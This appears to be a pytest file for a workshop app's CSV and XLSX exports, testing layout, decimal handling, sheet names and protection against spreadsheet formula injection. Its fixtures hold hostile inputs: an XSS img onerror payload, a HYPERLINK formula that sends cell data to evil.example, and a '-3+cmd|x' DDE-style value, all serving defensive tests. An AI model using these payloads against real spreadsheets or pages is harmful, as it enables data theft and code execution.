"""Exports of a workshop's synthesis: one CSV of sections, one XLSX sheet per section, both safe
to open in a spreadsheet."""

import csv
import io

import pytest
from openpyxl import load_workbook

from app.workshops.exports import Sheet, synthesis_csv, synthesis_xlsx

HOSTILE_HTML = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Voir")'


def sections() -> list[Sheet]:
    return [
        Sheet(
            "Moyenne de la salle par thème",
            ["Thème", "Moyenne /100", "Participants"],
            [["Gouvernance", 62.5, 4], ["Emploi", None, 2]],
            note="Un chiffre n'apparaît qu'à partir de 3 participants.",
        ),
        Sheet("Participants", ["Pseudonyme"], [["Zoé"], [HOSTILE_HTML], [FORMULA], ["-3+cmd|x"]]),
    ]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_the_csv_puts_each_section_after_a_blank_line_under_its_title():
    rows = read_csv(synthesis_csv(sections(), title="Synthèse — Atelier"))
    assert rows[:2] == [["Synthèse — Atelier"], []]
    assert rows[2] == ["Moyenne de la salle par thème"]
    assert rows[3] == ["Un chiffre n'apparaît qu'à partir de 3 participants."]
    assert rows[4] == ["Thème", "Moyenne /100", "Participants"]
    assert rows[5] == ["Gouvernance", "62,5", "4"]
    assert rows[6] == ["Emploi", "", "2"]  # no figure below the threshold: an empty cell
    assert rows[7] == []
    assert rows[8:10] == [["Participants"], ["Pseudonyme"]]


def test_the_csv_uses_crlf_and_the_decimal_separator_asked():
    text = synthesis_csv(sections(), decimal=".")
    assert "\r\n" in text
    assert ["Gouvernance", "62.5", "4"] in read_csv(text)


def test_csv_cells_cannot_run_as_formulas_and_html_stays_text():
    rows = read_csv(synthesis_csv(sections()))
    names = [row[0] for row in rows[-4:]]
    assert names == ["Zoé", HOSTILE_HTML, "'" + FORMULA, "'-3+cmd|x"]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_trigger_is_neutralised_even_in_titles_and_headers(prefix):
    sheet = Sheet(f"{prefix}titre", [f"{prefix}entête"], [[f"{prefix}1+1"]], note=f"{prefix}note")
    rows = read_csv(synthesis_csv([sheet]))
    expected = [f"'{prefix}{text}" for text in ("titre", "note", "entête", "1+1")]
    assert [row[0] for row in rows] == expected


def test_the_xlsx_has_one_sheet_per_section_with_numbers_and_text():
    book = load_workbook(io.BytesIO(synthesis_xlsx(sections(), title="Synthèse")))
    assert book.sheetnames == ["Moyenne de la salle par thème", "Participants"]
    assert book.properties.title == "Synthèse"
    themes = book["Moyenne de la salle par thème"]
    values = [[c.value for c in row] for row in themes.iter_rows()]
    assert values[0][0] == "Moyenne de la salle par thème"
    assert values[1][0] == "Un chiffre n'apparaît qu'à partir de 3 participants."
    assert values[2] == ["Thème", "Moyenne /100", "Participants"]
    assert values[3] == ["Gouvernance", 62.5, 4]
    assert values[4] == ["Emploi", None, 2]
    assert themes.freeze_panes == "A4"
    assert themes["A3"].font.bold


def test_xlsx_text_cells_are_strings_never_formulas():
    book = load_workbook(io.BytesIO(synthesis_xlsx(sections())))
    cells = [row[0] for row in book["Participants"].iter_rows(min_row=3)]
    assert [c.value for c in cells] == ["Zoé", HOSTILE_HTML, FORMULA, "-3+cmd|x"]
    assert {c.data_type for c in cells} == {"s"}
    assert cells[2].quotePrefix


def test_sheet_names_are_made_valid_and_unique():
    long = "Carte collective des parties prenantes : [salle]"
    book = load_workbook(
        io.BytesIO(
            synthesis_xlsx([Sheet(long, ["A"], []), Sheet(long, ["A"], []), Sheet("x", ["A"], [])])
        )
    )
    first, second, third = book.sheetnames
    assert len(first) <= 31
    assert not set(first) & set("[]:*?/\\")
    assert second != first
    assert len(second) <= 31
    assert second.endswith("(2)")
    assert third == "x"


def test_a_row_must_match_its_headers():
    with pytest.raises(ValueError, match="2 cells for 3 headers"):
        Sheet("Thèmes", ["Thème", "Moyenne", "Participants"], [["Gouvernance", 50.0]])


def test_control_characters_do_not_break_the_workbook():
    sheet = Sheet("Participants", ["Pseudonyme"], [["Zo\x0bé"]])
    book = load_workbook(io.BytesIO(synthesis_xlsx([sheet])))
    assert book["Participants"]["A3"].value == "Zoé"
